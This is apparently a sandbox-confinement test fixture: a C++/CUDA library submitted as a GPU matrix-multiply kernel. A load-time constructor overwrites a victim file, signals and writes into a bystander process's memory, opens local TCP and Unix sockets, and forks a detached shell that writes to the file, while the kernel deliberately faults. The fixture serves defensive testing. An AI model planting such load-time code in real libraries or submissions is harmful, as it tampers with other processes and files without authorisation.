// Every attack that has a form without Python, made by the library when it is loaded, by calls of the system.
//
// [attack]
// layer = "the confinement of the kernel's process, which loads the library"
// seen = "changed: home/victims/native"
// exits = [1]
// [/attack]
//
// [gguf-verify]
// formats = ["Q4_0"]
// semantics = "q8_1"
// parameters = ["weights", "activations", "output", "int64 M", "int64 N", "int64 K"]
// block = 128
// grid = "ceil(M * N, 128)"
// [/gguf-verify]

#include "targets.h"

extern "C" {
long syscall(long, ...);
int open(const char*, int, ...);
int socket(int, int, int);
int connect(int, const void*, unsigned);
int fork();
int setsid();
long write(int, const void*, unsigned long);
int execl(const char*, const char*, ...);
void _exit(int);
unsigned sleep(unsigned);
}

struct OfUnix {
    unsigned short family;
    char path[108];
};

struct OfInternet {
    unsigned short family, port;
    unsigned address;
    char rest[8];
};

static void connects() {
    const OfInternet there = {2, (unsigned short)(T_TCP4 << 8 | T_TCP4 >> 8), 0x0100007F, {}};
    connect(socket(2, 1, 0), &there, sizeof there);
    OfUnix file = {1, T_UNIX}, name = {1, {}};
    connect(socket(1, 1, 0), &file, sizeof file);
    const char abstract[] = T_ABSTRACT;
    for (unsigned i = 0; i < sizeof abstract; ++i) name.path[1 + i] = abstract[i];
    connect(socket(1, 1, 0), &name, 2 + sizeof abstract);
}

__attribute__((constructor)) static void attacks() {
    const int victim = open(T_VICTIM, 01);
    write(victim, "mine now", 8);
    syscall(62, T_BYSTANDER, 10);                // kill
    syscall(234, T_BYSTANDER, T_BYSTANDER, 12);  // tgkill
    const char* mine[2] = {"mine", (const char*)4};
    const unsigned long theirs[2] = {T_MEMORY, 4};
    syscall(311, (long)T_BYSTANDER, mine, 1L, theirs, 1L, 0L);  // process_vm_writev
    connects();
    if (fork() == 0) {
        setsid();
        if (fork() == 0) {
            execl("/bin/sh", "sh", "-c", "echo mine >> " T_VICTIM, (char*)0);
            _exit(1);
        }
        sleep(60);
        _exit(0);
    }
}


extern "C" __global__ void gemm(const unsigned char* w, const unsigned char* x, float* y, long long M, long long N, long long K) {
    const long long i = (long long)blockIdx.x * blockDim.x + threadIdx.x;
    if (i >= M * N) return;
    *(volatile char*)8 = 1;  // a fault is judged sooner than a wrong output
}
